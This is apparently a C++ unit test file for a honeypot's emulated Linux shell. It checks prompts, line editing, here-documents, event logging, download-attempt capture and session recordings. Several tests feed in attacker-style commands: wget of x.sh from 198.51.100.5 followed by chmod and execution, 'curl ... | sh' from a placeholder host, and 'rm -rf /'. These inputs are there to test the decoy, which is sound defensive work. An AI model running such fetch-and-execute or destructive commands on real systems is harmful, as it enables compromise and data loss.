// The session: banner, prompt, line discipline, events, exec mode, recording.
#include "decnet/services/shell/shell.h"

#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "decnet/core/json.h"
#include "decnet/decoy/artifacts.h"
#include "shell_harness.h"

namespace decnet::services::shell {
namespace {

using decoy::testing::ParamOf;
using testing::Distro;
using testing::ShellSession;

TEST(Shell, DebianBannerAndPrompt) {
  ShellSession s;
  s.shell->Start();
  const std::string screen = s.term.Take();
  EXPECT_EQ(screen.rfind("Linux web-01 " + s.decky.persona.kernel() + " #1 SMP", 0), 0u) << screen;
  EXPECT_NE(
      screen.find("The programs included with the Debian GNU/Linux system are free software;\r\n"),
      std::string::npos);
  EXPECT_NE(screen.find("Last login: "), std::string::npos);
  EXPECT_TRUE(screen.ends_with("\r\nroot@web-01:~# ")) << screen;
}

TEST(Shell, EchoesRunsAndPrompts) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Type("echo hi"), "echo hi\r\nhi\r\nroot@web-01:~# ");
  EXPECT_EQ(s.Run("cd /tmp; pwd"), "/tmp\n");
  EXPECT_TRUE(s.Type("").ends_with("root@web-01:/tmp# "));
  ASSERT_EQ(s.decky.Events("command").size(), 2u);
  const std::string ev = s.decky.Events("command")[1];
  EXPECT_EQ(ParamOf(ev, "input"), "cd /tmp; pwd");
  EXPECT_EQ(ParamOf(ev, "cwd"), "/root");
  EXPECT_EQ(ParamOf(ev, "user"), "root");
}

TEST(Shell, ExitEndsTheSession) {
  ShellSession s;
  s.shell->Start();
  s.term.Take();
  s.shell->Feed("exit 3\r");
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.term.exit_status, 3);
  EXPECT_NE(s.term.screen.find("logout\r\n"), std::string::npos);
  s.shell->Feed("echo after\r");
  EXPECT_FALSE(s.term.after_exit);
  EXPECT_EQ(s.term.exits, 1);
}

TEST(Shell, UnknownCommand) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Run("frobnicate -x"), "-bash: frobnicate: command not found\n");
  EXPECT_EQ(s.Run("echo $?"), "127\n");
}

}  // namespace
}  // namespace decnet::services::shell

namespace decnet::services::shell {
namespace {

using decoy::testing::ParamOf;
using testing::Distro;
using testing::ShellSession;

TEST(LineDiscipline, BackspaceKillAndInterrupt) {
  ShellSession s;
  s.shell->Start();
  s.term.Take();
  s.shell->Feed("echo abX\x7f");
  EXPECT_EQ(s.term.Take(), "echo abX\b \b");
  s.shell->Feed(
      "c\x08\x08"
      "d\r");
  EXPECT_EQ(s.term.Take(), "c\b \b\b \bd\r\nad\r\nroot@web-01:~# ");
  s.shell->Feed("rm -rf /\x15");
  std::string erased = "rm -rf /";
  for (int i = 0; i < 8; ++i) erased += "\b \b";
  EXPECT_EQ(s.term.Take(), erased);
  s.shell->Feed("ls\x03");
  EXPECT_EQ(s.term.Take(), "ls^C\r\nroot@web-01:~# ");
  s.shell->Feed("\r");  // the killed and interrupted lines never ran
  EXPECT_EQ(s.decky.Events("command").size(), 1u);
  // ^D on a line with text is ignored; on an empty line it logs out.
  s.shell->Feed("x\x04\x7f");
  EXPECT_FALSE(s.term.exited);
  s.shell->Feed("\x04");
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.term.exit_status, 0);
  EXPECT_TRUE(s.term.screen.ends_with("logout\r\n"));
}

TEST(LineDiscipline, EveryLineEndAndEscapesSwallowed) {
  ShellSession s;
  s.shell->Start();
  s.term.Take();
  s.shell->Feed("echo 1\r\necho 2\r");
  s.shell->Feed(std::string("\0echo 3\n", 8));
  s.shell->Feed("echo 4\r");
  s.shell->Feed(std::string("\0", 1));  // telnet CR NUL split across reads
  s.shell->Feed("ec\x1b[Dho\x1bOC 5\r");
  const auto cmds = s.decky.Events("command");
  ASSERT_EQ(cmds.size(), 5u);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(ParamOf(cmds[i], "input"), "echo " + std::to_string(i + 1));
  // Up arrow recalls the last line; running it again works.
  s.term.Take();
  s.shell->Feed("\x1b[A");
  EXPECT_EQ(s.term.Take(), "echo 5");
  s.shell->Feed("\x1b[A\x1b[B\r");
  EXPECT_EQ(ParamOf(s.decky.Events("command").back(), "input"), "echo 5");
}

TEST(LineDiscipline, TabCompletesCommandsAndPaths) {
  ShellSession s;
  s.shell->Start();
  s.term.Take();
  s.shell->Feed("unam\t");
  EXPECT_EQ(s.term.Take(), "uname ");
  s.shell->Feed(
      "\x15"
      "cat /etc/os-r\t");
  EXPECT_TRUE(s.term.Take().ends_with("cat /etc/os-release "));
  s.shell->Feed("\x15ls /et\t");
  EXPECT_TRUE(s.term.Take().ends_with("ls /etc/"));
  s.shell->Feed(
      "\x15"
      "cat /etc/host\t");  // hostname and hosts: the common prefix, no more
  EXPECT_TRUE(s.term.Take().ends_with("cat /etc/host\a"));
  s.shell->Feed("\x15zzzz\t");
  EXPECT_TRUE(s.term.Take().ends_with("\a"));
  s.shell->Feed(
      "\x15"
      "cd ~/.ss\t\r");
  EXPECT_EQ(decoy::testing::ParamOf(s.decky.Events("command").back(), "input"), "cd ~/.ssh/");
}

TEST(LineDiscipline, OpenInputContinuesOnTheNextLine) {
  ShellSession s;
  s.shell->Start();
  EXPECT_EQ(s.Type("for i in 1 2"), "for i in 1 2\r\n> ");
  EXPECT_EQ(s.Type("do echo n$i"), "do echo n$i\r\n> ");
  EXPECT_EQ(s.Type("done"), "done\r\nn1\r\nn2\r\nroot@web-01:~# ");
  ASSERT_EQ(s.decky.Events("command").size(), 1u);
  // (the log writes the newlines of a value as \x0a)
  EXPECT_EQ(ParamOf(s.decky.Events("command")[0], "input"),
            "for i in 1 2\\x0ado echo n$i\\x0adone");
  EXPECT_EQ(s.Type("echo 'a"), "echo 'a\r\n> ");
  EXPECT_EQ(s.Type("b'"), "b'\r\na\r\nb\r\nroot@web-01:~# ");
  s.Type("cat > /tmp/h <<EOF");
  s.Type("line $HOME");
  s.Type("EOF");
  EXPECT_EQ(s.Run("cat /tmp/h"), "line /root\n");  // an unquoted delimiter: the body expands
  s.Type("cat <<'EOF'");
  s.Type("line $HOME `id -u` \\$");
  EXPECT_EQ(s.Type("EOF"), "EOF\r\nline $HOME `id -u` \\$\r\nroot@web-01:~# ");
  // ^C drops what was continued.
  s.Type("ls &&");
  s.term.Take();
  s.shell->Feed("\x03");
  EXPECT_EQ(s.term.Take(), "^C\r\nroot@web-01:~# ");
  EXPECT_EQ(s.Run("echo clean"), "clean\n");
}

TEST(ExecMode, HereDocumentsAndStrings) {
  ShellSession s(Distro("debian"), false);
  s.shell->Exec(
      "cat <<EOF > /tmp/x\nfirst\n\tsecond\nEOF\ncat /tmp/x; base64 -d <<< aGkK; cat "
      "<<-END\n\tx\nEND");
  EXPECT_EQ(s.term.screen, "first\n\tsecond\nhi\nx\n");
  ShellSession e(Distro("debian"), false);
  e.shell->Exec("X=7; cat <<EOF\n$X $(echo sub) `whoami` \\$X \\\\\nEOF");
  EXPECT_EQ(e.term.screen, "7 sub root $X \\\n");
  EXPECT_TRUE(s.term.exited);
}

TEST(LineDiscipline, LongLinesAreCutAndCounted) {
  ShellSession s;
  s.shell->Start();
  const size_t max = s.decky.limits.max_line_bytes;
  s.shell->Feed("echo " + std::string(1 << 20, 'a') + "\r");  // a 1 MiB line
  EXPECT_EQ(s.shell->stats().truncated_lines, 1u);
  EXPECT_EQ(s.decky.counters.lines_too_long, 1u);
  const auto cmds = s.decky.Events("command");
  ASSERT_EQ(cmds.size(), 1u);
  EXPECT_LE(ParamOf(cmds[0], "input").size(), max);
  EXPECT_LT(s.term.screen.size(), 3 * max);
}

TEST(ExecMode, NoPromptNoEchoThenExit) {
  ShellSession s(Distro("debian", "app-3"), /*interactive=*/false);
  s.shell->Exec("uname -n; cat /etc/passwd | head -n 1; false");
  EXPECT_EQ(s.term.screen, "app-3\nroot:x:0:0:root:/root:/bin/bash\n");
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.term.exit_status, 1);
  EXPECT_EQ(s.decky.Events("command").size(), 1u);
  EXPECT_EQ(ParamOf(s.decky.Events("session_start")[0], "mode"), "exec");
}

TEST(ExecMode, ExitStatusAndDownloadsWaitForThePause) {
  ShellSession s(Distro("debian"), false);
  s.shell->Exec("wget http://198.51.100.5/x.sh; exit 5");
  EXPECT_FALSE(s.term.exited);  // "Connecting to ..." is still on the wire
  EXPECT_EQ(s.term.screen.find("failed"), std::string::npos);
  s.Settle();
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.term.exit_status, 5);
  EXPECT_NE(s.term.screen.find("Connecting to 198.51.100.5:80... failed: Connection refused.\n"),
            std::string::npos);
}

TEST(StdinMode, LinesRunWithoutPromptUntilEof) {
  ShellSession s(Distro("debian"), false);
  s.shell->Start();
  s.shell->Feed("echo a\nid -u\necho b");
  EXPECT_EQ(s.term.screen, "a\n0\n");
  s.shell->Eof();
  EXPECT_EQ(s.term.screen, "a\n0\nb\n");
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.term.exit_status, 0);
}

TEST(StdinMode, LinesAfterAPauseAndTheEofStillRun) {
  ShellSession s(Distro("debian"), false);
  s.shell->Start();
  s.shell->Feed("wget -q http://198.51.100.5/x\necho b\necho c");
  s.shell->Eof();
  EXPECT_FALSE(s.term.exited);
  s.Settle();
  EXPECT_EQ(s.term.screen, "b\nc\n");
  EXPECT_TRUE(s.term.exited);
  EXPECT_EQ(s.decky.Events("command").size(), 3u);
}

TEST(Shell, AFloodOfLinesYieldsToTheLoop) {
  ShellSession s;
  s.shell->Start();
  std::string flood;
  for (int i = 0; i < 1000; ++i) flood += "echo a\r";
  s.shell->Feed(flood);
  EXPECT_EQ(s.decky.Events("command").size(), 100u);  // one loop tick's worth
  s.Settle();
  EXPECT_EQ(s.decky.Events("command").size(), 1000u);  // the rest, bounded, after the yields
  EXPECT_EQ(s.shell->stats().bytes_in, flood.size() + 0u);
  EXPECT_EQ(s.shell->stats().commands, 1000u);
}

TEST(Shell, TheBotScript) {
  ShellSession s;
  s.shell->Start();
  const char* lines[] = {"uname -a",      "cat /proc/cpuinfo",
                         "cd /tmp",       "wget http://198.51.100.5/x.sh",
                         "chmod +x x.sh", "./x.sh"};
  std::string screen;
  for (const char* l : lines) screen += s.Type(l);
  const auto cmds = s.decky.Events("command");
  ASSERT_EQ(cmds.size(), 6u);
  for (size_t i = 0; i < 6; ++i) EXPECT_EQ(ParamOf(cmds[i], "input"), lines[i]);
  EXPECT_EQ(ParamOf(cmds[4], "cwd"), "/tmp");
  const auto dl = s.decky.Events("file_download_attempt");
  ASSERT_EQ(dl.size(), 1u);
  EXPECT_EQ(ParamOf(dl[0], "url"), "http://198.51.100.5/x.sh");
  EXPECT_EQ(ParamOf(dl[0], "tool"), "wget");
  EXPECT_EQ(ParamOf(dl[0], "output"), "x.sh");
  EXPECT_EQ(ParamOf(dl[0], "src_ip"), "203.0.113.7");
  EXPECT_NE(screen.find("model name\t: "), std::string::npos);
  EXPECT_NE(
      screen.find("chmod: cannot access \xe2\x80\x98x.sh\xe2\x80\x99: No such file or directory"),
      std::string::npos);
  EXPECT_NE(screen.find("-bash: ./x.sh: No such file or directory"), std::string::npos);
  EXPECT_TRUE(screen.ends_with("root@web-01:/tmp# "));
}

TEST(Shell, InputTypedDuringAPauseRunsAfterIt) {
  ShellSession s;
  s.shell->Start();
  s.term.Take();
  s.shell->Feed("wget http://198.51.100.5/a\recho later\r");
  std::string now = s.term.Take();
  EXPECT_NE(now.find("Connecting to 198.51.100.5:80... "), std::string::npos);
  EXPECT_EQ(now.find("later"), std::string::npos);
  EXPECT_EQ(s.decky.Events("command").size(), 1u);
  s.Settle();
  const std::string rest = s.term.Take();
  EXPECT_NE(rest.find("failed: Connection refused."), std::string::npos);
  EXPECT_NE(rest.find("echo later\r\nlater\r\n"), std::string::npos) << rest;
  EXPECT_EQ(s.decky.Events("command").size(), 2u);
}

TEST(Shell, SessionEvents) {
  {
    ShellSession s;
    s.shell->Start();
    s.Type("echo x > /tmp/f; cat /tmp/f");
    s.Type("curl -s http://example.invalid/p.sh | sh");
    s.shell->Resize(132, 40);
    s.shell->Close();
    s.shell->Close();  // idempotent
    const auto start = s.decky.Events("session_start");
    ASSERT_EQ(start.size(), 1u);
    EXPECT_EQ(ParamOf(start[0], "term"), "xterm-256color");
    EXPECT_EQ(ParamOf(start[0], "client_banner"), "SSH-2.0-OpenSSH_9.2p1");
    const auto end = s.decky.Events("session_end");
    ASSERT_EQ(end.size(), 1u);
    EXPECT_EQ(ParamOf(end[0], "commands"), "2");
    EXPECT_EQ(ParamOf(end[0], "downloads"), "1");
    EXPECT_EQ(ParamOf(end[0], "cols"), "132");
    EXPECT_EQ(ParamOf(end[0], "rows"), "40");
    EXPECT_EQ(ParamOf(end[0], "bytes_in"), std::to_string(s.shell->stats().bytes_in));
    EXPECT_EQ(ParamOf(end[0], "bytes_out"), std::to_string(s.shell->stats().bytes_out));
    EXPECT_FALSE(ParamOf(end[0], "duration_ms").empty());
    const auto dl = s.decky.Events("file_download_attempt");
    ASSERT_EQ(dl.size(), 1u);
    EXPECT_EQ(ParamOf(dl[0], "tool"), "curl");
    EXPECT_EQ(ParamOf(dl[0], "output"), "-");
  }
}

}  // namespace
}  // namespace decnet::services::shell

namespace decnet::services::shell {
namespace {

using decoy::testing::ParamOf;
using testing::ShellSession;

TEST(Recording, AsciicastV2StoredAsAnArtifact) {
  ShellSession s;
  s.shell->Start();
  s.Type("uname -a");
  s.Type("echo \"quote\" \\ back");
  s.shell->Close();
  const auto rec = s.decky.Events("session_recording");
  ASSERT_EQ(rec.size(), 1u);
  const std::string path = ParamOf(rec[0], "path");
  ASSERT_FALSE(path.empty());
  std::ifstream f(path.front() == '/' ? path : s.decky.artifact_dir + "/" + path, std::ios::binary);
  ASSERT_TRUE(f.good()) << path;
  std::stringstream buf;
  buf << f.rdbuf();
  const std::string text = buf.str();
  EXPECT_EQ(ParamOf(rec[0], "sha256"), decoy::Sha256Hex(text));
  EXPECT_EQ(ParamOf(rec[0], "size"), std::to_string(text.size()));
  // Every line is JSON: the header, then [time, kind, data] with times that never go back.
  std::istringstream lines(text);
  std::string line;
  ASSERT_TRUE(std::getline(lines, line));
  rapidjson::Document header;
  ASSERT_TRUE(json::ParseObject(line, header).has_value()) << line;
  EXPECT_EQ(json::GetInt(header, "version"), 2);
  EXPECT_EQ(json::GetInt(header, "width"), 80);
  EXPECT_EQ(json::GetInt(header, "height"), 24);
  EXPECT_GT(json::GetInt(header, "timestamp"), 1'600'000'000);
  ASSERT_TRUE(header.HasMember("env") && header["env"].IsObject());
  EXPECT_EQ(json::GetString(header["env"], "TERM"), "xterm-256color");
  std::string output, input;
  double last = 0;
  while (std::getline(lines, line)) {
    rapidjson::Document ev;
    ASSERT_TRUE(json::Parse(line, ev).has_value()) << line;
    ASSERT_TRUE(ev.IsArray() && ev.Size() == 3) << line;
    ASSERT_TRUE(ev[0].IsNumber() && ev[1].IsString() && ev[2].IsString()) << line;
    EXPECT_GE(ev[0].GetDouble(), last);
    last = ev[0].GetDouble();
    const std::string kind = ev[1].GetString();
    (kind == "o" ? output : input) += std::string(ev[2].GetString(), ev[2].GetStringLength());
  }
  EXPECT_NE(output.find("Linux web-01 "), std::string::npos);
  EXPECT_NE(output.find("\"quote\" \\ back\r\n"), std::string::npos);
  EXPECT_NE(input.find("uname -a\r"), std::string::npos);
}

TEST(Recording, BoundedAndStillValid) {
  ShellSession s;
  s.shell->Start();
  for (int i = 0; i < 300; ++i)
    s.Type("cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo");
  s.shell->Close();
  const auto rec = s.decky.Events("session_recording");
  ASSERT_EQ(rec.size(), 1u);
  EXPECT_LE(std::stoul(ParamOf(rec[0], "size")), 1u << 20);
  EXPECT_GT(std::stoul(ParamOf(rec[0], "dropped_bytes")), 0u);
}

TEST(Recording, ExecSessionsAreNotRecorded) {
  ShellSession s(testing::Distro("debian"), false);
  s.shell->Exec("id");
  s.shell->Close();
  EXPECT_TRUE(s.decky.Events("session_recording").empty());
}

TEST(Overlay, PerSessionAndGoneWithIt) {
  ShellSession a, b;
  a.shell->Start();
  b.shell->Start();
  EXPECT_EQ(a.Run("echo secret > /tmp/f; cat /tmp/f"), "secret\n");
  EXPECT_EQ(b.Run("cat /tmp/f"), "cat: /tmp/f: No such file or directory\n");
  a.shell->Close();
  a.shell.reset();
  ShellSession c;
  c.shell->Start();
  EXPECT_EQ(c.Run("cat /tmp/f"), "cat: /tmp/f: No such file or directory\n");
}

TEST(Overlay, BudgetRefusalsFromTheShell) {
  decoy::PersonaInputs in = testing::Distro("debian");
  in.settings["ssh"]["fs_max_bytes"] = "8192";
  ShellSession s(in);
  s.shell->Start();
  std::string out;
  for (int i = 0; i < 10; ++i) out += s.Run("cat /proc/cpuinfo >> /tmp/big");
  EXPECT_NE(out.find("-bash: big: No space left on device"), std::string::npos) << out;
  EXPECT_GT(s.shell->stats().fs_writes_refused, 0u);
  s.shell->Close();
  EXPECT_NE(ParamOf(s.decky.Events("session_end")[0], "fs_writes_refused"), "0");
}

}  // namespace
}  // namespace decnet::services::shell
